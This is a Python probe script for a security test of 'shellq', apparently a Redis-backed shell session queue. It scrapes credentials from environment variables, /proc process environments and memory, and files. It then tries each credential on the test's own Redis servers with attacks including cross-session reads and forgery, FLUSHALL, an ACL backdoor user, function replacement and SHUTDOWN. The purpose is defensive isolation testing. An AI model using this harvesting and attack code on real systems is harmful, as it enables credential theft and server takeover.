"""A hostile command for tests/test_security.py. Run inside a session, by its shell user, it gathers every credential
and Redis address it can find, tries each credential against every attack of docs/design.md "Security", and prints
one JSON document: what it found (and where), what it searched, and every attempt with its reply.

    python3 - CONFIG <<'EOF'
    <this file>
    EOF

CONFIG is base64 of a JSON object: `targets` ([host, port] or ["unix", path] of the test's own servers: the only
ones attacked; other addresses found are reported, never touched), `own` and `other` (session ids), `command_id` (this
command's id), `caller` (the FCALL caller tag), `paths` (more places to search), `forged_command` and
`forged_result` (field -> base64 value: a command entry for the other session, a result entry with exit_code 0 for
this command), `changed_library` (shellq's library with changed code). Standard library only (a session's python3 has no
redis-py): raw RESP on a socket. The test also imports `attack` to try credentials it hands over itself.
"""

from __future__ import annotations

import base64
import glob
import json
import os
import pwd
import re
import socket
import stat
import sys
from typing import Any

HEX = re.compile(rb"(?<![0-9a-fA-F])[0-9a-fA-F]{32,512}(?![0-9a-fA-F])")
URL = re.compile(rb"rediss?://[^\s'\"<>`\x00]{1,512}")
PATH = re.compile(rb"(?:^|(?<=[\s=:,;'\"(]))(/[^\s:,;'\"()<>`\x00]{1,1024})", re.MULTILINE)
ADDRESS = re.compile(rb"(?<![\w.])((?:\d{1,3}\.){3}\d{1,3}|localhost|\*):(\d{2,5})(?!\d)")
AFTER_WORD = re.compile(
    rb"(?:requirepass|masterauth|-a|--pass|--password|--requirepass|--user)[\s=]+([^\s\x00]{1,512})"
)
ACL_LINE = re.compile(rb"^user \S+ .*$", re.MULTILINE)
ACL_PASSWORD = re.compile(rb"(?<=\s)>(\S{1,512})")
SECRET_NAME = re.compile(r"PASS|SECRET|TOKEN|AUTH|KEY", re.IGNORECASE)
SYSTEM = ("/usr/", "/bin/", "/sbin/", "/lib", "/proc/", "/sys/", "/boot/", "/snap/", "/var/lib/", "/etc/", "/dev/")
"""Directories named somewhere that are not listed (files named there are still read)."""
FILE_BUDGET, BYTES_PER_FILE, MEM_PER_PROCESS = 4000, 1 << 20, 32 << 20
PER_SOURCE = 100
"""Password candidates kept from one source: a file with thousands of hex strings is a log of ids (the test host's
Docker daemon log), not a credential store. How many were dropped, and from where, is reported."""
ROOT_DEPTH, NAMED_DEPTH = 6, 1
"""How deep directories are listed: the places shellq keeps things, and a directory named anywhere."""


class Findings:
    """Everything found, with where from."""

    def __init__(self) -> None:
        self.candidates: dict[str, list[str]] = {}
        self.dropped: dict[str, int] = {}
        self.per_source: dict[str, int] = {}
        self.users: dict[str, list[str]] = {}
        self.addresses: dict[str, list[str]] = {}
        self.urls: dict[str, list[str]] = {}
        self.paths: list[tuple[str, int]] = []
        self.next_path = 0
        self.seen_paths: set[str] = set()
        self.searched: dict[str, Any] = {
            "proc_environ": {"tried": 0, "readable": 0},
            "proc_cmdline": {"tried": 0, "readable": 0},
            "proc_mem": {"tried": 0, "readable": 0, "readable_pids": []},
            "files": {"read": 0, "denied": 0, "read_paths": [], "denied_paths": []},
            "dirs": {"listed": 0, "denied": 0, "listed_paths": [], "denied_paths": []},
        }

    @staticmethod
    def note(table: dict[str, list[str]], value: str, source: str) -> None:
        sources = table.setdefault(value, [])
        if source not in sources and len(sources) < 3:
            sources.append(source)

    def candidate(self, value: str, source: str) -> None:
        if not value:
            return
        if value in self.candidates:
            self.note(self.candidates, value, source)
            return
        kept = self.per_source.get(source, 0)
        if kept >= PER_SOURCE:
            self.dropped[source] = self.dropped.get(source, 0) + 1
            return
        self.per_source[source] = kept + 1
        self.note(self.candidates, value, source)

    def scan(self, data: bytes, source: str, paths: bool = True) -> None:
        """Credentials, users, addresses and paths in `data`."""
        for url in URL.findall(data):
            self.url(url.decode(errors="replace"), source)
        for found in HEX.findall(data):
            self.candidate(found.decode(), source)
        for found in AFTER_WORD.findall(data):
            self.candidate(found.decode(errors="replace"), source)
        for line in ACL_LINE.findall(data):
            for found in ACL_PASSWORD.findall(line):
                self.candidate(found.decode(errors="replace"), source)
        for host, port in ADDRESS.findall(data):
            self.address(host.decode(), int(port), source)
        if paths:
            for path in PATH.findall(data):
                self.path(os.fsdecode(path), NAMED_DEPTH)

    def url(self, url: str, source: str) -> None:
        from urllib.parse import unquote, urlsplit

        self.note(self.urls, url, source)
        try:
            parts = urlsplit(url)
            port = parts.port or 6379
        except ValueError:
            return
        if parts.username:
            self.note(self.users, unquote(parts.username), source)
        if parts.password:
            self.candidate(unquote(parts.password), source)
        self.address(parts.hostname or "localhost", port, source)

    def address(self, host: str, port: int, source: str) -> None:
        if 0 < port < 65536 and len(self.addresses) < 2000:
            self.note(self.addresses, f"{_loopback(host)}:{port}", source)

    def path(self, path: str, depth: int) -> None:
        path = path.rstrip("/") or "/"
        if path not in self.seen_paths and len(self.seen_paths) < 20 * FILE_BUDGET:
            self.seen_paths.add(path)
            self.paths.append((path, depth))


def _loopback(host: str) -> str:
    return "127.0.0.1" if host in ("localhost", "*", "0.0.0.0", "::1", "[::1]") else host


# -- gathering ----------------------------------------------------------------------------------------------------


def gather(config: dict[str, Any]) -> Findings:
    """The places shellq keeps things (and the test's `paths`) first, then the environment, every process and
    socket, and every file named in any of them."""
    found = Findings()
    for path in [*config.get("paths", []), *shellq_paths()]:
        found.path(path, ROOT_DEPTH)
    read_paths(found)
    for name, value in os.environ.items():
        found.scan(f"{name}={value}".encode(errors="surrogateescape"), f"env:{name}")
        if SECRET_NAME.search(name):
            found.candidate(value, f"env:{name}")
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        read_process(found, pid)
    read_sockets(found)
    read_paths(found)
    return found


def read_paths(found: Findings) -> None:
    """Every path found and not read yet (and those found on the way), until the file budget is spent."""
    while found.next_path < len(found.paths) and found.searched["files"]["read"] < FILE_BUDGET:
        read_path(found, *found.paths[found.next_path])
        found.next_path += 1


def read_process(found: Findings, pid: str) -> None:
    """/proc/PID/cmdline, environ and, where the uid allows it, the writable memory of a process."""
    for what in ("cmdline", "environ"):
        counts = found.searched[f"proc_{what}"]
        counts["tried"] += 1
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                data = f.read()
        except OSError:
            continue
        counts["readable"] += 1
        source = f"/proc/{pid}/{what}"
        found.scan(data.replace(b"\0", b"\n"), source)
        if what == "environ":
            for item in data.split(b"\0"):
                name, _, value = item.partition(b"=")
                if SECRET_NAME.search(name.decode(errors="replace")):
                    found.candidate(value.decode(errors="replace"), source)
    if pid != str(os.getpid()):
        read_memory(found, pid)


def read_memory(found: Findings, pid: str) -> None:
    """The writable mappings of a process (/proc/PID/maps, /proc/PID/mem), as far as ptrace rules allow."""
    counts = found.searched["proc_mem"]
    counts["tried"] += 1
    try:
        with open(f"/proc/{pid}/maps") as f:
            regions = [line.split()[0].split("-") for line in f if line.split()[1].startswith("rw")]
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115 (closed below; reads of some regions fail)
    except OSError:
        return
    budget, readable = MEM_PER_PROCESS, False
    with mem:
        for start, end in regions:
            size = min(int(end, 16) - int(start, 16), budget)
            if size <= 0:
                break
            try:
                mem.seek(int(start, 16))
                data = mem.read(size)
            except (OSError, OverflowError, ValueError):
                continue
            readable, budget = True, budget - size
            found.scan(data, f"/proc/{pid}/mem", paths=False)
    if readable:
        counts["readable"] += 1
        counts["readable_pids"].append(int(pid))


def read_sockets(found: Findings) -> None:
    """Addresses of the TCP connections and listeners in this network namespace (/proc/net/tcp, tcp6)."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = [line.split() for line in f.readlines()[1:]]
        except OSError:
            continue
        for row in rows:
            local, remote, state = row[1], row[2], row[3]
            for end in (remote,) if state == "01" else (local,) if state == "0A" else ():
                host, port = end.split(":")
                found.address(_ipv4(host), int(port, 16), table)


def _ipv4(hex_host: str) -> str:
    if len(hex_host) == 8:
        return ".".join(str(b) for b in reversed(bytes.fromhex(hex_host)))
    if hex_host.endswith("0100007F") or set(hex_host[:-1]) == {"0"}:  # ::ffff:127.0.0.1, ::1
        return "127.0.0.1"
    return f"[{hex_host}]"


def shellq_paths() -> list[str]:
    """Where shellq keeps things: its state dir in every home (or $SHELLQ_HOME), /etc/shellq, the session and run
    directories in /tmp and /dev/shm, and its install in a container."""
    homes = {os.environ.get("HOME", "/")}
    homes.update(p.pw_dir for p in pwd.getpwall())
    paths = [os.path.join(h, ".local/state/shellq") for h in sorted(homes)]
    paths += [os.environ.get("SHELLQ_HOME", ""), "/etc/shellq", "/opt/shellq", "/var/lib/shellq"]
    paths += glob.glob("/tmp/shellq-*") + glob.glob("/dev/shm/shellq-*")
    return [p for p in paths if p]


def read_path(found: Findings, path: str, depth: int) -> None:
    """Read a regular file; list a directory (`depth` levels down) unless it is a system one or as wide as /tmp."""
    try:
        info = os.stat(path)
    except OSError as e:
        if e.errno == 13:  # EACCES: a directory on the way is closed to this user
            _denied(found, "files", path)
        return
    if stat.S_ISDIR(info.st_mode):
        shallow = path.count("/") < 2 or path.startswith(SYSTEM)
        if depth > 0 and (depth == ROOT_DEPTH or not shallow):
            list_dir(found, path, depth - 1)
    elif stat.S_ISREG(info.st_mode) and not path.startswith(("/proc/", "/sys/")):
        read_file(found, path)


def list_dir(found: Findings, path: str, depth: int) -> None:
    try:
        names = sorted(os.listdir(path))
    except OSError:
        _denied(found, "dirs", path)
        return
    dirs = found.searched["dirs"]
    dirs["listed"] += 1
    if len(dirs["listed_paths"]) < 300:
        dirs["listed_paths"].append(path)
    for name in names[:500]:
        found.path(os.path.join(path, name), depth)


def read_file(found: Findings, path: str) -> None:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        _denied(found, "files", path)
        return
    with os.fdopen(fd, "rb") as f:
        try:
            data = f.read(BYTES_PER_FILE)
        except OSError:
            return
    files = found.searched["files"]
    files["read"] += 1
    if len(files["read_paths"]) < 300:
        files["read_paths"].append(path)
    found.scan(data, path)


def _denied(found: Findings, kind: str, path: str) -> None:
    counts = found.searched[kind]
    counts["denied"] += 1
    if len(counts["denied_paths"]) < 300:
        counts["denied_paths"].append(path)


# -- RESP ---------------------------------------------------------------------------------------------------------


def pack(args: list[Any]) -> bytes:
    out = [b"*%d\r\n" % len(args)]
    for arg in args:
        data = arg if isinstance(arg, bytes) else str(arg).encode()
        out.append(b"$%d\r\n%s\r\n" % (len(data), data))
    return b"".join(out)


class Connection:
    """One connection to a Redis server; replies are summarised as text ("error: ...", "ok: ...")."""

    def __init__(self, target: tuple[str, Any]) -> None:
        if target[0] == "unix":  # ("unix", path): Redis's unix socket
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.settimeout(5)
            try:
                self.sock.connect(target[1])
            except OSError:
                self.sock.close()
                raise
        else:
            self.sock = socket.create_connection(target, timeout=5)
        self.buf = b""

    def close(self) -> None:
        self.sock.close()

    def call(self, command: list[Any]) -> str:
        self.sock.sendall(pack(command))
        return self.reply()

    def _fill(self) -> None:
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionResetError("the server closed the connection")
        self.buf += data

    def _line(self) -> bytes:
        while b"\r\n" not in self.buf:
            self._fill()
        line, self.buf = self.buf.split(b"\r\n", 1)
        return line

    def _exactly(self, n: int) -> bytes:
        while len(self.buf) < n + 2:
            self._fill()
        data, self.buf = self.buf[:n], self.buf[n + 2 :]
        return data

    def reply(self) -> str:
        line = self._line()
        kind, rest = line[:1], line[1:].decode(errors="replace")
        if kind == b"-":
            return f"error: {rest}"
        if kind in (b"+", b":"):
            return f"ok: {rest[:80]}"
        if kind == b"$":
            return "ok: nil" if int(rest) < 0 else f"ok: {self._exactly(int(rest))[:60]!r}"
        if kind == b"*":
            items = [self.reply() for _ in range(max(int(rest), 0))]
            return f"ok: array of {len(items)}" + (f" ({items[0][:60]}...)" if items else "")
        raise ValueError(f"not RESP: {line[:40]!r}")


def run_all(
    target: tuple[str, Any], credential: tuple[str | None, str | None], commands: list[list[Any]]
) -> tuple[str | None, list[str]]:
    """AUTH with `credential` (unless it has no password), then each command in turn, on one connection; a closed
    connection (a protocol error, a refused command that closes it) is opened and authenticated again for the next
    command. Returns the first AUTH reply and the commands' replies."""
    user, password = credential
    auth = None if password is None else ["AUTH", password] if user is None else ["AUTH", user, password]
    first_auth: str | None = None
    replies: list[str] = []
    conn: Connection | None = None
    for command in commands:
        try:
            if conn is None:
                conn = Connection(target)
                reply = conn.call(auth) if auth else None
                first_auth = first_auth or reply
            replies.append(conn.call(command))
            if replies[-1].startswith("error: ERR Protocol error"):  # the server closes the connection after it
                conn.close()
                conn = None
        except ConnectionRefusedError:
            replies.append("connection refused")
        except PermissionError:
            replies.append("permission denied")
        except (OSError, ValueError) as e:
            replies.append(f"closed: {e}")
            if conn:
                conn.close()
            conn = None
    if conn:
        conn.close()
    return first_auth, replies


# -- attacks ------------------------------------------------------------------------------------------------------


def attacks(config: dict[str, Any]) -> list[tuple[str, list[Any]]]:
    """Every attack of docs/design.md "Security", against session `other` and the server; AUTH as the backdoor
    user and MONITOR change the connection, so they come after the others; SHUTDOWN comes last."""
    own, other, cid, caller = config["own"], config["other"], config["command_id"], config["caller"]
    a, b = f"shellq:{{{own}}}:", f"shellq:{{{other}}}:"
    command = [x for kv in _fields(config["forged_command"]).items() for x in kv]
    result = [x for kv in _fields(config["forged_result"]).items() for x in kv]
    read = "return redis.call('XRANGE', KEYS[1], '-', '+')"
    submit = [*(f"{b}{k}" for k in ("cmd", "jrnl:forged-by-probe", "meta", "seq")), caller, 60, 1000, "forged-by-probe"]
    commit = [*(f"{b}{k}" for k in ("res", "jrnl:x", "cmd", "lease", "meta")), caller, "guessed-token", "shellq"]
    return [
        ("ping", ["PING"]),
        ("read-other-commands", ["XRANGE", f"{b}cmd", "-", "+"]),
        ("read-other-results", ["XRANGE", f"{b}res", "-", "+"]),
        ("read-other-meta", ["HGETALL", f"{b}meta"]),
        ("read-other-by-eval", ["EVAL", read, 1, f"{b}cmd"]),
        ("fcall-read-other", ["FCALL_RO", "shellq_alive", 1, f"{b}meta", caller]),
        ("xadd-other-command", ["XADD", f"{b}cmd", "*", *command]),
        ("fcall-submit-other", ["FCALL", "shellq_submit", 4, *submit, *command]),
        ("fcall-commit-other", ["FCALL", "shellq_commit", 5, *commit, "0-1", 60, 100, "x", *result]),
        ("del-other", ["DEL", f"{b}cmd", f"{b}res", f"{b}meta", f"{b}lease"]),
        ("flushall", ["FLUSHALL"]),
        ("flushdb", ["FLUSHDB"]),
        ("config-set-appendonly", ["CONFIG", "SET", "appendonly", "no"]),
        ("config-set-maxmemory-policy", ["CONFIG", "SET", "maxmemory-policy", "allkeys-lru"]),
        ("config-get", ["CONFIG", "GET", "*"]),
        ("acl-setuser-backdoor", ["ACL", "SETUSER", "backdoor", "on", ">x", "~*", "+@all"]),
        ("acl-list", ["ACL", "LIST"]),
        ("acl-deluser-other", ["ACL", "DELUSER", f"shellq.worker.{other}"]),
        ("keys", ["KEYS", "*"]),
        ("scan-other-sessions", ["SCAN", 0, "MATCH", "shellq:*", "COUNT", 10000]),
        ("client-kill", ["CLIENT", "KILL", "USER", f"shellq.worker.{other}"]),
        ("client-list", ["CLIENT", "LIST"]),
        ("debug", ["DEBUG", "SLEEP", 0]),
        ("function-load-replace", ["FUNCTION", "LOAD", "REPLACE", config["changed_library"]]),
        ("function-delete", ["FUNCTION", "DELETE", "shellq"]),
        ("function-flush", ["FUNCTION", "FLUSH"]),
        ("function-restore", ["FUNCTION", "RESTORE", b"\x00garbage", "REPLACE"]),
        ("rq-keys", ["KEYS", "rq:*"]),
        ("rq-read", ["SMEMBERS", "rq:queues"]),
        ("rq-write", ["RPUSH", "rq:queue:default", "forged"]),
        ("swapdb", ["SWAPDB", 0, 1]),
        ("replicaof", ["REPLICAOF", "NO", "ONE"]),
        ("forge-own-result", ["XADD", f"{a}res", "*", *result]),
        ("forge-own-journal", ["HSET", f"{a}jrnl:{cid}", "res", "1-1"]),
        ("auth-backdoor", ["AUTH", "backdoor", "x"]),
        ("monitor", ["MONITOR"]),
        ("shutdown", ["SHUTDOWN", "NOSAVE"]),
    ]


def _fields(encoded: dict[str, str]) -> dict[str, bytes]:
    return {name: base64.b64decode(value) for name, value in encoded.items()}


def credentials(found: Findings, config: dict[str, Any]) -> list[tuple[str | None, str | None]]:
    """No credential at all; every password candidate alone (the `default` user); and every user name with every
    candidate and with a made-up password (which a `nopass` user would take)."""
    users = {f"shellq.{role}.{s}" for role in ("worker", "producer") for s in (config["own"], config["other"])}
    users.update(found.users, ["default"])
    passwords = sorted(found.candidates)
    creds: list[tuple[str | None, str | None]] = [(None, None), *((None, p) for p in passwords)]
    creds += [(u, p) for u in sorted(users) for p in [*passwords, "x"]]
    return creds


def attack(
    targets: list[tuple[str, Any]], creds: list[tuple[str | None, str | None]], config: dict[str, Any]
) -> dict[str, Any]:
    """Every attack with every credential on every target (SHUTDOWN after all the others). The replies are
    numbered once (`replies`); each row is [target, credential, AUTH reply or -1, [reply of each attack]]."""
    plan = attacks(config)
    numbers: dict[str, int] = {}
    rows: dict[tuple[int, int], list[Any]] = {}
    for phase in (plan[:-1], plan[-1:]):
        for t, target in enumerate(targets):
            for c, cred in enumerate(creds):
                auth, replies = run_all(target, cred, [command for _, command in phase])
                row = rows.setdefault((t, c), [t, c, -1, []])
                if auth is not None and row[2] == -1:
                    row[2] = numbers.setdefault(auth, len(numbers))
                row[3] += [numbers.setdefault(r, len(numbers)) for r in replies]
    return {
        "targets": [f"{h}:{p}" for h, p in targets],
        "credentials": [[u, p] for u, p in creds],
        "attacks": [name for name, _ in plan],
        "replies": sorted(numbers, key=numbers.__getitem__),
        "rows": list(rows.values()),
    }


def main() -> None:
    config = json.loads(base64.b64decode(sys.argv[1]))
    found = gather(config)
    targets: list[tuple[str, Any]] = [(str(h), p if h == "unix" else int(p)) for h, p in config["targets"]]
    own = {f"{_loopback(h)}:{p}" for h, p in targets if h != "unix"}
    report = {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "found": {
            "candidates": found.candidates,
            "dropped_candidates": found.dropped,
            "users": found.users,
            "urls": found.urls,
            "addresses": found.addresses,
            "paths": len(found.paths),
        },
        "searched": found.searched,
        "not_attacked": sorted(set(found.addresses) - own),
        "attempts": attack(targets, credentials(found, config), config),
    }
    print(json.dumps(report, separators=(",", ":")))
    sys.exit(7)  # the forged result says 0: the test checks that the producer gets this one


if __name__ == "__main__":
    main()
